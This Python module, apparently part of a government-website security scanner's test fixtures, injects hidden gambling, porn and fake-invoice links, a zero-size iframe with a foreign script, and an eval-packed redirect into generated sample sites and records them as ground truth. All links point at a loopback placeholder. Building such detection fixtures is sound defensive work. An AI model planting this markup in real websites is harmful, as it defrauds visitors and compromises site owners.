"""Alter a generated sample site with security events (暗链, 挂马) and record them in its truth.

`inject_security_events(site_dir)` rewrites pages of a site that
`generate.generate_site` wrote (its www/ folder and truth.json), as real
injections look:

- the homepage gets hidden gambling, porn and fake-invoice links right
  after <body>: a ``<div style="display:none">`` block, a block positioned
  far off-screen by a rule of an injected ``<style>``, a font-size:0
  paragraph, and a ``document.write`` of a hidden block; one `hidden_link`
  on "/";
- the first column's list page gets a zero-size iframe and a plain script,
  both from a foreign host (the external server); one `malicious_script`;
- the first article page gets an eval packer (``eval(function(p,a,c,k,e,d)``)
  that writes a redirect; one `malicious_script`.

Links and sources point at `spec.EXTERNAL_PLACEHOLDER` (the loopback external
server), never at a real host. The clean look-alikes that must stay silent
(a skip link positioned off-screen, the 党政机关 mark's document.write of
the conac script) are written by the normal generator.

Not for: generating sites (`generate`) or serving them (`server`).
"""

from __future__ import annotations

from pathlib import Path

from govsite.samplesites.generate import WWW, _file_for
from govsite.samplesites.spec import EXTERNAL_OK, EXTERNAL_PLACEHOLDER
from govsite.samplesites.truth import Truth, TruthFinding

FOREIGN = f"{EXTERNAL_PLACEHOLDER}{EXTERNAL_OK}"
HIDDEN_LINKS = (
    "<style>.hd-lk{position:absolute;top:-999px;left:-999px;}</style>"
    '<div style="display:none"><a href="' + FOREIGN + 'casino/index.html">澳门葡京娱乐城</a>'
    '<a href="' + FOREIGN + 'bjsc/index.html">北京赛车</a></div>'
    '<div class="hd-lk"><a href="' + FOREIGN + 'bjl/index.html">百家乐</a></div>'
    '<p style="font-size:0;line-height:0"><a href="' + FOREIGN + 'fapiao/index.html">代开发票</a></p>'
    '<script>document.write(\'<div style="position:absolute;left:-3000px">'
    '<a href="' + FOREIGN + "av/index.html\">成人视频</a></div>');</script>\n"
)
HIDDEN_FRAME = (
    '<iframe src="' + FOREIGN + 'tj/frame.html" width="0" height="0" frameborder="0"></iframe>'
    '<script src="' + FOREIGN + 'tj/count.js"></script>\n'
)
PACKER = (
    "<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};"
    "if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];"
    "e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}"
    "return p}('0.1.2=\"3://4.5/\"',6,6,'window|location|href|http|bc|example'.split('|'),0,{}))</script>\n"
)


def _insert_after_body(data: bytes, markup: str, encoding: str) -> bytes:
    text = data.decode(encoding)
    index = text.find("<body>")
    if index < 0:
        raise ValueError("page has no <body>")
    index += len("<body>")
    return (text[:index] + "\n" + markup + text[index:]).encode(encoding)


def inject_security_events(site_dir: Path) -> list[TruthFinding]:
    """Alter the site in `site_dir` and add the events to its truth.json; the events added."""
    site_dir = Path(site_dir)
    truth = Truth.load(site_dir)
    www = site_dir / WWW
    column = truth.columns[0].path
    article = next(p["path"] for p in truth.pages if "heading" in p)  # a sampled article page
    plan = [("/", HIDDEN_LINKS, "hidden_link"), (column, HIDDEN_FRAME, "malicious_script")]
    plan.append((article, PACKER, "malicious_script"))
    added: list[TruthFinding] = []
    for path, markup, type_ in plan:
        target = _file_for(www, path)
        target.write_bytes(_insert_after_body(target.read_bytes(), markup, truth.encoding))
        added.append(TruthFinding(type_, path, detail={"injected": True}))
    truth.findings.extend(added)
    truth.save(site_dir)
    return added
